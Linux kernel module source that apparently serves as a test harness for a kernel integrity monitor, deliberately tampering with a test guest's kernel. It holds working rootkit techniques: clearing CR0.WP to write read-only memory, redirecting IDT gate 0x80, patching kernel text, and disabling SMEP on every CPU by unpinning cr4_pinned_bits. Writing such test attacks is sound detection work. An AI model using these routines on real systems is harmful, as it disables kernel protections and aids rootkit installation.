// SPDX-License-Identifier: GPL-2.0
/*
 * clonetest_attack.c: what a rootkit does to a kernel, for the integrity
 * watch's tests (issue 13).  Loaded in the test guest by the workload's
 * "attack KIND" and "module benign" commands, then unloaded; the change it
 * made stays.
 *
 *   attack=idt    IDT gate 0x80 (the 32-bit int $0x80 entry, which nothing
 *                 in the busybox guest uses) is pointed at gate 0's handler
 *   attack=text   one byte of an exported kernel function is changed: the
 *                 function's ftrace site, the 5-byte NOP "0f 1f 44 00 00",
 *                 becomes "0f 1f 44 00 01" (another NOP: the function still
 *                 works if it runs; sync_filesystem, else kern_path, else
 *                 msleep_interruptible)
 *   attack=smep   CR4.SMEP is cleared on every CPU, for good: first in the
 *                 kernel's pinned CR4 bits (cr4_pinned_bits, at the address
 *                 the workload found in /proc/kallsyms: parameter
 *                 "pinned"), then with a
 *                 raw "mov %cr4" and the kernel's cr4_clear_bits_irqsoff(),
 *                 which also clears
 *                 it in the kernel's copy of CR4: otherwise the next global
 *                 TLB flush (which rewrites CR4 from that copy) or
 *                 native_write_cr4() (which puts pinned bits back) would
 *                 set it again within moments
 *   attack=none   nothing (a benign module)
 *
 * The IDT and the kernel text are mapped read-only: the writes go through
 * with CR0.WP cleared by a raw "mov %cr0" (native_write_cr0() would put WP
 * back), interrupts off.
 *
 * What was done goes to the kernel log and to the read-only parameter
 * "report" (/sys/module/clonetest_attack/parameters/report), which the
 * workload prints before it unloads the module: "status=0 KIND ..." with
 * the values read back after the change, not assumed, or "status=-ERRNO
 * ..." if it could not be done.
 */
#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/smp.h>
#include <linux/irqflags.h>
#include <linux/printk.h>
#include <linux/string.h>
#include <linux/fs.h>
#include <linux/namei.h>
#include <linux/delay.h>
#include <asm/desc.h>
#include <asm/tlbflush.h>

static char *attack = "none";
module_param(attack, charp, 0444);
MODULE_PARM_DESC(attack, "idt|text|smep|none");

/* The address of cr4_pinned_bits, which the workload reads in
 * /proc/kallsyms.  A kprobe on kallsyms_lookup_name() would find it from
 * here, but the probe rewrites kernel text for a moment: an alert of its
 * own, before the one the test waits for. */
static unsigned long pinned;
module_param(pinned, ulong, 0444);
MODULE_PARM_DESC(pinned, "the address of cr4_pinned_bits (attack=smep)");

static char report[256] = "none";
static char detail[200];
module_param_string(report, report, sizeof(report), 0444);
MODULE_PARM_DESC(report, "what was done (read-only)");

#define CT_CR0_WP (1UL << 16)
#define CT_CR4_SMEP (1UL << 20)
#define CT_IDT_VECTOR 0x80

static inline unsigned long ct_read_cr0(void)
{
	unsigned long v;

	asm volatile("mov %%cr0, %0" : "=r"(v));
	return v;
}

static inline void ct_write_cr0(unsigned long v)
{
	asm volatile("mov %0, %%cr0" : : "r"(v) : "memory");
}

static inline unsigned long ct_read_cr4(void)
{
	unsigned long v;

	asm volatile("mov %%cr4, %0" : "=r"(v));
	return v;
}

static inline void ct_write_cr4(unsigned long v)
{
	asm volatile("mov %0, %%cr4" : : "r"(v) : "memory");
}

/* Copy @len bytes to read-only kernel memory @dst. */
static void ct_write_ro(void *dst, const void *src, size_t len)
{
	unsigned long flags, cr0;

	local_irq_save(flags);
	cr0 = ct_read_cr0();
	ct_write_cr0(cr0 & ~CT_CR0_WP);
	memcpy(dst, src, len);
	ct_write_cr0(cr0);
	local_irq_restore(flags);
}

static int ct_attack_idt(void)
{
	struct desc_ptr dt;
	gate_desc *gates, gate;
	unsigned long old, target;

	asm volatile("sidt %0" : "=m"(dt));
	if (dt.size < (CT_IDT_VECTOR + 1) * sizeof(gate_desc) - 1)
		return -ENODEV;
	gates = (gate_desc *)dt.address;
	gate = gates[CT_IDT_VECTOR];
	if (!gate.bits.p)
		return -ENODEV;
	old = gate_offset(&gate);
	target = gate_offset(&gates[0]);
	gate.offset_low = (u16)target;
	gate.offset_middle = (u16)(target >> 16);
	gate.offset_high = (u32)(target >> 32);
	ct_write_ro(&gates[CT_IDT_VECTOR], &gate, sizeof(gate));
	snprintf(detail, sizeof(detail),
		 "idt idtr=0x%lx vector=0x%x gate=0x%lx old=0x%lx new=0x%lx",
		 dt.address, CT_IDT_VECTOR,
		 (unsigned long)&gates[CT_IDT_VECTOR], old,
		 gate_offset(&gates[CT_IDT_VECTOR]));
	return gate_offset(&gates[CT_IDT_VECTOR]) == target ? 0 : -EIO;
}

static int ct_attack_text(void)
{
	static const u8 nop5[5] = { 0x0f, 0x1f, 0x44, 0x00, 0x00 };
	/* exported, built in, rarely or never run by the busybox guest, with
	 * an ftrace site (the first that has one): if it runs, the patched
	 * bytes are still a NOP */
	u8 *const candidates[] = {
		(u8 *)&sync_filesystem, (u8 *)&kern_path,
		(u8 *)&msleep_interruptible,
	};
	u8 val = 0x01;
	u8 *fn = NULL;
	size_t i;

	for (i = 0; i < ARRAY_SIZE(candidates) && !fn; i++)
		if (memcmp(candidates[i], nop5, sizeof(nop5)) == 0)
			fn = candidates[i];
	if (!fn) {
		snprintf(detail, sizeof(detail),
			 "text no ftrace NOP at 0x%lx: %*phN",
			 (unsigned long)candidates[0], 5, candidates[0]);
		return -ENODEV;
	}
	ct_write_ro(fn + 4, &val, 1);
	snprintf(detail, sizeof(detail),
		 "text fn=%ps addr=0x%lx old=00 new=%02x bytes=%*phN",
		 fn, (unsigned long)(fn + 4), fn[4], 5, fn);
	return fn[4] == val ? 0 : -EIO;
}

/* A raw "mov %cr4", then the kernel's own CR4 helper, so that its per-CPU
 * copy of CR4 agrees (it writes that copy back on every global TLB flush). */
static void ct_clear_smep(void *unused)
{
	ct_write_cr4(ct_read_cr4() & ~CT_CR4_SMEP);
	cr4_clear_bits_irqsoff(CT_CR4_SMEP);
}

static void ct_read_smep(void *arg)
{
	atomic_t *still_set = arg;

	if (ct_read_cr4() & CT_CR4_SMEP)
		atomic_inc(still_set);
}

static int ct_attack_smep(void)
{
	atomic_t still_set = ATOMIC_INIT(0);
	unsigned long before = ct_read_cr4();
	unsigned long *pinned_bits = (unsigned long *)pinned;
	unsigned long bits;

	if (!(before & CT_CR4_SMEP)) {
		snprintf(detail, sizeof(detail), "smep not set: cr4=0x%lx", before);
		return -ENODEV;         /* the CPU has no SMEP: nothing to do */
	}
	if (!pinned_bits) {
		snprintf(detail, sizeof(detail), "smep no address of cr4_pinned_bits");
		return -ENOENT;
	}
	/* native_write_cr4() puts the pinned bits back: unpin SMEP first */
	bits = *pinned_bits & ~CT_CR4_SMEP;
	ct_write_ro(pinned_bits, &bits, sizeof(bits));
	on_each_cpu(ct_clear_smep, NULL, 1);
	on_each_cpu(ct_read_smep, &still_set, 1);
	snprintf(detail, sizeof(detail),
		 "smep cpus=%u cr4_before=0x%lx cr4_after=0x%lx still_set=%d pinned=0x%lx",
		 num_online_cpus(), before, ct_read_cr4(),
		 atomic_read(&still_set), *pinned_bits);
	return atomic_read(&still_set) ? -EIO : 0;
}

static int __init ct_init(void)
{
	int ret = 0;

	if (strcmp(attack, "idt") == 0)
		ret = ct_attack_idt();
	else if (strcmp(attack, "text") == 0)
		ret = ct_attack_text();
	else if (strcmp(attack, "smep") == 0)
		ret = ct_attack_smep();
	else if (strcmp(attack, "none") == 0)
		snprintf(detail, sizeof(detail), "none");
	else
		return -EINVAL;
	/* loaded even if the attack failed, so that the workload reads the
	 * report; "status=0" means done and read back */
	snprintf(report, sizeof(report), "status=%d %s", ret, detail);
	pr_err("clonetest_attack: %s\n", report);
	return 0;
}

static void __exit ct_exit(void)
{
}

module_init(ct_init);
module_exit(ct_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("libvirt-clone test: kernel integrity attacks");
